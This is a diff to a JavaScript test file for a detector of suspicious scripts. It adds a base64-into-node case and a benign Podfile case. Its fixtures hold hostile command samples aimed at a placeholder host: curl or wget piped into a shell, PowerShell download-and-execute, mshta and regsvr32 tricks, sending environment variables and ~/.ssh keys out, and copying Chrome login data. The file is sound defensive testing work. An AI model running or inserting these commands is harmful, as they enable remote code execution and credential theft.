@@ -11,7 +11,7 @@ describe('shell-scripts', () => {
     ['curl into a shell', `curl -fsSL ${U} | bash`, 'a.sh', 'runs-fetched-text'], ['wget into an interpreter', `wget -qO- ${U} |python3`, 'a.sh', 'runs-fetched-text'], ['a shell of what is fetched', `bash -c "$(curl -s ${U})"`, 'a.sh', 'runs-fetched-text'],
     ['a command over lines', `curl -s ${U} \\\n  | sh`, 'a.sh', 'runs-fetched-text'], ['PowerShell of an address', `iex (iwr ${U}).Content`, 'a.ps1', 'runs-fetched-text'], ['PowerShell of a client', `IEX (New-Object Net.WebClient).DownloadString('${U}')`, 'a.ps1', 'runs-fetched-text'],
     ['mshta', `mshta ${U}`, 'a.bat', 'runs-fetched-text'], ['regsvr32', `regsvr32 /s /n /u /i:${U} scrobj.dll`, 'a.cmd', 'runs-fetched-text'], ['encoded PowerShell', `powershell -w hidden -enc ${'QQBB'.repeat(20)}`, 'a.bat', 'runs-decoded-text'],
-    ['base64 into a shell', `echo ZWNobyBoaQ== | base64 -d | sh`, '.husky/pre-commit', 'runs-decoded-text'], ['a fetched program', `curl -so /tmp/.a ${U}\nchmod +x /tmp/.a\n/tmp/.a &`, 'a.sh', 'starts-fetched-file'], ['a fetched program of Windows', `certutil -urlcache -split -f ${U} %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe`, 'a.bat', 'starts-fetched-file'],
+    ['base64 into a shell', `echo ZWNobyBoaQ== | base64 -d | sh`, '.husky/pre-commit', 'runs-decoded-text'], ['a program for node, decoded', 'node -e "$(echo ZWNobyBoaQ== | base64 -d)" &', 'a.sh', 'runs-decoded-text'], ['a fetched program', `curl -so /tmp/.a ${U}\nchmod +x /tmp/.a\n/tmp/.a &`, 'a.sh', 'starts-fetched-file'], ['a fetched program of Windows', `certutil -urlcache -split -f ${U} %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe`, 'a.bat', 'starts-fetched-file'],
     ['a program that PowerShell fetched', `Invoke-WebRequest ${U} -OutFile a.exe\nStart-Process a.exe`, 'a.ps1', 'starts-fetched-file'], ['the environment sent out', `env | curl -d @- ${U}`, 'a.sh', 'sends-environment'], ['keys sent out', `tar cz ~/.ssh | curl -T - ${U}`, 'a.sh', 'sends-files'],
     ['a browser that is read', `cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/x`, 'a.command', 'reads-browser-data'], ['a font that is started', `node ./public/fonts/a.woff2`, 'a.sh', 'loads-disguised-file'], ['a process in the background', `nohup node x.js > /dev/null 2>&1 &`, 'a.sh', 'starts-process'],
   ])('sees %s', (_, text, path, kind) => {
@@ -43,7 +43,7 @@ describe('other-programs', () => {
 
   it('is quiet about ordinary programs', () => {
     expect(seenBy(otherPrograms, {
-      'build.rs': 'fn main() { println!("cargo:rerun-if-changed=x"); }', 'build.gradle': `plugins { id 'java' }\nrepositories { mavenCentral() }`, 'a.rb': `eval("1 + 1")\nNet::HTTP.get(URI(u))`, 'a.php': '<?php $x = base64_decode($y); echo file_get_contents("a.txt");',
+      'build.rs': 'fn main() { println!("cargo:rerun-if-changed=x"); }', 'build.gradle': `plugins { id 'java' }\nrepositories { mavenCentral() }`, 'a.rb': `eval("1 + 1")\nNet::HTTP.get(URI(u))`, 'Podfile': 'system("curl -o engine.tar.gz https://maven.example/engine.tar.gz")\nFile.open("a")\nsystem("tar xzf engine.tar.gz")\nabort "Run `unset HERE` first"', 'a.php': '<?php $x = base64_decode($y); echo file_get_contents("a.txt");',
       'main.go': `resp, _ := http.Get(u)\nexec.Command("git", "status")`, 'a.csproj': '<Project Sdk="Microsoft.NET.Sdk"></Project>', 'A.java': `// eval(openStream())\nint a = 1;`, 'pom.xml': '<artifactId>maven-compiler-plugin</artifactId>',
     })).toEqual([]);
   });
